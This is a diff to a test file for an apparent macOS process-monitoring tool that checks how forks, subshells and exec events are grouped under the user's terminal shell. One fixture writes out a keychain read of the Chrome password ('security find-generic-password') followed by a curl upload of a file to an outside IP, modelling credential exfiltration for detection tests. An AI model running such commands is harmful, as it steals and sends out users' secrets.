@@ -145,11 +145,57 @@ describe('a fork inherits its parent\'s argv and stdin (a review\'s case)', () =
     expect(processes.group(processes.get(840)!).root.pid).toBe(810);
   });
 
-  it('a fork of the user\'s interactive shell (its job) keeps that shell\'s facts: the terminal still vouches for it', () => {
+  it('a `( … )` subshell of the user\'s interactive shell is that shell\'s: a keychain read in it explains the upload beside it (a review\'s case)', () => {
     const { processes, pipeline } = terminalSession();
-    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: { ...zshChild, pid: 810, ppid: 805, startMs: (S - 7198) * 1000 }, body: body.fork({ ...zshChild, pid: 850, ppid: 810, startMs: T - 500 }, 10) }));
-    expect(processes.get(850)).toMatchObject({ args: ['-zsh'] });
-    expect(processes.get(850)!.stdin).toBeUndefined();
+    const loginZsh = { ...zshChild, pid: 810, ppid: 805, startMs: (S - 7198) * 1000 };
+    const sub = { ...zshChild, pid: 850, ppid: 810, startMs: T - 500 };
+    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: loginZsh, body: body.fork(sub, 10) }));
+    const secFork = { ...sub, pid: 860, ppid: 850, startMs: T - 400 };
+    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 400, gseq: 3, process: sub, body: body.fork(secFork, 10) }));
+    const security = { ...secFork, path: '/usr/bin/security', signingId: 'com.apple.security' };
+    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 400, gseq: 4, process: secFork, body: { ...body.exec(security, ['security', 'find-generic-password', '-wa', 'Chrome'], '/Users/dana', 10), fds: [{ fd: 0, fdtype: 1 }] } }));
+    const curlFork = { ...zshChild, pid: 870, ppid: 810, startMs: T - 300 };
+    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 300, gseq: 5, process: loginZsh, body: body.fork(curlFork, 10) }));
+    const curl = { ...curlFork, path: '/usr/bin/curl', signingId: 'com.apple.curl' };
+    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 300, gseq: 6, process: curlFork, body: { ...body.exec(curl, ['curl', '-T', '/tmp/k', 'https://203.0.113.5/'], '/Users/dana', 10), fds: [{ fd: 0, fdtype: 1 }] } }));
+    expect(processes.get(850)).toMatchObject({ args: ['-zsh'], forkedOnly: true });
+    expect(processes.get(860)!.forkedOnly).toBeUndefined(); // exec'd security
+    expect(processes.group(processes.get(870)!).root.pid).toBe(810);
+    expect(processes.group(processes.get(860)!).root.pid).toBe(810);
+  });
+
+  it('ps listing the subshell before the fork line is read: it still inherits the pipe (a review\'s case)', () => {
+    const { processes, pipeline } = terminalSession();
+    const b = { ...body.exec(piped, ['bash'], '/Users/dana', 10), fds: [{ fd: 0, fdtype: 6 }, { fd: 1, fdtype: 1 }, { fd: 2, fdtype: 1 }] };
+    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: zshChild, body: b }));
+    processes.observe({ pid: 840, processStart: Math.floor((T - 500) / 1000), ppid: 830, name: 'bash', args: ['bash'], uid: 501, source: 'ps', seenAt: S });
+    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: piped, body: body.fork(subshell, 10) }));
+    const child = processes.get(840)!;
+    expect(child.stdin).toBe('pipe');
+    expect(isInteractiveShell(child)).toBe(false);
+    expect(processes.group(child).root.pid).toBe(810);
+  });
+
+  it('a nested shell the user starts (fork, then exec of zsh) is a group root of its own; its exec ends the subshell mark', () => {
+    const { processes, pipeline } = terminalSession();
+    const loginZsh = { ...zshChild, pid: 810, ppid: 805, startMs: (S - 7198) * 1000 };
+    const nested = { ...zshChild, pid: 880, ppid: 810, startMs: T - 200 };
+    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 200, gseq: 7, process: loginZsh, body: body.fork(nested, 10) }));
+    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 200, gseq: 8, process: nested, body: body.exec(nested, ['zsh'], '/Users/dana', 10) }));
+    const r = processes.get(880)!;
+    expect(r.forkedOnly).toBeUndefined();
+    expect(processes.group(r)).toMatchObject({ rootKind: 'terminal_shell' });
+    expect(processes.group(r).root.pid).toBe(880);
+  });
+
+  it('a child seen by ps already running another image than its parent\'s inherits nothing from a late fork line', () => {
+    const { processes, pipeline } = terminalSession();
+    const b = { ...body.exec(piped, ['bash'], '/Users/dana', 10), fds: [{ fd: 0, fdtype: 6 }] };
+    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: zshChild, body: b }));
+    processes.observe({ pid: 840, processStart: Math.floor((T - 500) / 1000), ppid: 830, path: '/usr/bin/curl', args: ['curl', 'x'], uid: 501, source: 'osquery', seenAt: S });
+    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: piped, body: body.fork(subshell, 10) }));
+    expect(processes.get(840)).toMatchObject({ path: '/usr/bin/curl', args: ['curl', 'x'] });
+    expect(processes.get(840)!.forkedOnly).toBeUndefined();
   });
 });
 
